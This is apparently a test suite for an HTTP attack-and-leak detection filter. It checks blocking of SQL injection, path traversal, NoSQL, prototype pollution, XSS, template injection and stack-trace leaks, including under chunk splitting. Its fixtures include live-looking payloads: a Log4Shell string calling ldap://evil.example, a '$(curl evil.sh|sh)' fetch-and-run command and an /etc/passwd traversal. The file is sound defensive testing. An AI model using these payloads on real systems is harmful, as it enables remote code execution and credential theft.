// Request-side attack detection and response-side leak detection through the real filter: JSON values
// and keys, query parameters, the URL path and selected headers reach the attack detectors; a block rule
// stops the request before the upstream sees its body; benign text with SQL-ish words passes.
import { test } from "node:test";
import assert from "node:assert/strict";
import { loadFilter, evidence, GET } from "./policy-helpers.ts";

const BLOCK = `version: 1\nenable: ["attack.*", "leak.*"]\nrules:\n  - { detectors: ["attack.*"], action: block }\n`;

const CASES: Array<[string, Record<string, string>, string, string | null]> = [
  ["SQL injection in a JSON value", { ":method": "POST", ":path": "/api/search", "content-type": "application/json" }, JSON.stringify({ q: "1' OR '1'='1' --" }), "attack.sqli"],
  ["UNION SELECT in a query parameter", { ":method": "GET", ":path": "/api/items?id=1%20UNION%20SELECT%20password%20FROM%20users" }, "", "attack.sqli"],
  ["encoded traversal in the path", { ":method": "GET", ":path": "/static/..%2f..%2f..%2fetc%2fpasswd" }, "", "attack.path_traversal"],
  ["NoSQL operator as a JSON key", { ":method": "POST", ":path": "/login", "content-type": "application/json" }, JSON.stringify({ user: "admin", password: { $ne: null } }), "attack.nosqli"],
  ["prototype pollution key", { ":method": "POST", ":path": "/api/profile", "content-type": "application/json" }, JSON.stringify({ __proto__x: 1, a: JSON.parse('{"__proto__": {"isAdmin": true}}') }), "attack.prototype_pollution"],
  ["Log4Shell in User-Agent", { ":method": "GET", ":path": "/", "user-agent": "${jndi:ldap://evil.example/a}" }, "", "attack.log4shell"],
  ["XSS in a form field", { ":method": "POST", ":path": "/comment", "content-type": "application/x-www-form-urlencoded" }, "text=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "attack.xss"],
  ["benign prose with SQL words and quotes", { ":method": "POST", ":path": "/api/comments", "content-type": "application/json" }, JSON.stringify({ text: "I'd like to select a union rep; it's O'Reilly's book", email: "x@y.io" }), null],
];

for (const [name, headers, body, detector] of CASES) {
  test(`${name}: ${detector ?? "passes"}`, () => {
    const p = loadFilter(BLOCK);
    const s = p.newStream();
    s.sendRequest({ headers: { ":authority": "api", ...headers }, body: body || undefined });
    if (detector === null) {
      assert.equal(s.localReply, null, p.logText());
      s.sendResponse({ headers: { ":status": "200" }, body: "ok" });
      assert.equal(s.downstream.body.toString(), "ok");
      return;
    }
    assert.equal(s.localReply?.status, 403, p.logText());
    assert.ok(evidence(p)[0].counts[`${detector}:block`] >= 1, JSON.stringify(evidence(p)));
    if (body) assert.equal(s.upstream.body.length, 0, "the upstream must not receive the attack body");
  });
}

test("leaks: a stack trace in a response is reported (alert by default)", () => {
  const p = loadFilter(BLOCK);
  const s = p.newStream();
  s.sendRequest({ headers: GET() });
  s.sendResponse({ headers: { ":status": "500", "content-type": "text/plain" }, body: 'Traceback (most recent call last):\n  File "/app/main.py", line 12, in handler\n    raise ValueError(x)\nValueError: bad' });
  assert.equal(evidence(p)[0].counts["leak.stack_trace:alert"], 1);
});

test("leaks in a successful JSON response are looked for under error-like keys (any case), not in data fields", () => {
  const p = loadFilter(BLOCK);
  const trace = 'Traceback (most recent call last):\n  File "/app/main.py", line 12, in handler\nValueError: bad';
  const cases: Array<[Record<string, unknown>, number]> = [
    [{ data: { ok: true }, Error: { StackTrace: trace } }, 1],
    [{ debugMessage: trace }, 1],
    [{ note: trace }, 0],
  ];
  for (const [doc, expected] of cases) {
    p.logs.length = 0;
    const s = p.newStream();
    s.sendRequest({ headers: GET() });
    s.sendResponse({ headers: { ":status": "200", "content-type": "application/json" }, body: JSON.stringify(doc) });
    assert.equal(evidence(p)[0]?.counts["leak.stack_trace:alert"] ?? 0, expected, JSON.stringify(doc));
  }
});

// A payload split by a chunk boundary must be judged whole: segmented values (text bodies, gRPC strings over
// a chunk) go to the attack detectors in fixed windows of the decoded value, not per segment. Found by the
// long fuzz run ("evidence depends on chunking"); before, splitting the payload was an evasion.
test("text body: the same attack findings for every split of the payload across two chunks", () => {
  const ALERT = `version: 1\nenable: ["attack.*"]\nrules:\n  - { detectors: ["attack.*"], action: alert }\n`;
  const body = Buffer.from("note: please run $(curl evil.sh|sh) and {\"$where\": \"sleep(1000)\"} {{7*7}}");
  const verdict = (chunkSize: number) => {
    const p = loadFilter(ALERT);
    const s = p.newStream();
    s.sendRequest({ headers: { ":method": "POST", ":path": "/notes", ":authority": "api", "content-type": "text/plain" }, body, chunkSize });
    s.sendResponse({ headers: { ":status": "204" } });
    const ev = evidence(p);
    return ev.length ? JSON.stringify(ev[0].counts) : "{}";
  };
  const whole = verdict(body.length);
  assert.match(whole, /attack\.command_injection/);
  for (let c = 1; c < body.length; c += 3) assert.equal(verdict(c), whole, `chunk size ${c}`);
});

test("values over 16 KiB: a payload across the detectors' window boundary is found (windows overlap), and one past the first 16 KiB", () => {
  const ALERT = `version: 1\nenable: ["attack.*"]\nrules:\n  - { detectors: ["attack.*"], action: alert }\n`;
  // "{{7*" and "7}}" are harmless alone: only the whole expression is template injection
  for (const [pad, ctype] of [[16384 - 4, "text/plain"], [2 * 16384 - 1024 - 4, "text/plain"], [40000, "text/plain"], [16384 - 4, "application/json"], [40000, "application/json"]] as const) {
    const text = "x".repeat(pad) + "{{7*7}}" + "y".repeat(3000);
    const body = Buffer.from(ctype === "application/json" ? JSON.stringify({ note: text }).replace(/^\{"note":"/, "{\"note\":\"") : text);
    for (const chunkSize of [body.length, 4096, 1000]) {
      const p = loadFilter(ALERT);
      const s = p.newStream();
      s.sendRequest({ headers: { ":method": "POST", ":path": "/notes", ":authority": "api", "content-type": ctype }, body, chunkSize });
      s.sendResponse({ headers: { ":status": "204" } });
      const ev = evidence(p);
      assert.ok(ev.length === 1 && "attack.ssti:alert" in ev[0].counts, `${ctype} pad ${pad}, chunk ${chunkSize}: ${JSON.stringify(ev[0]?.counts)}`);
    }
  }
});
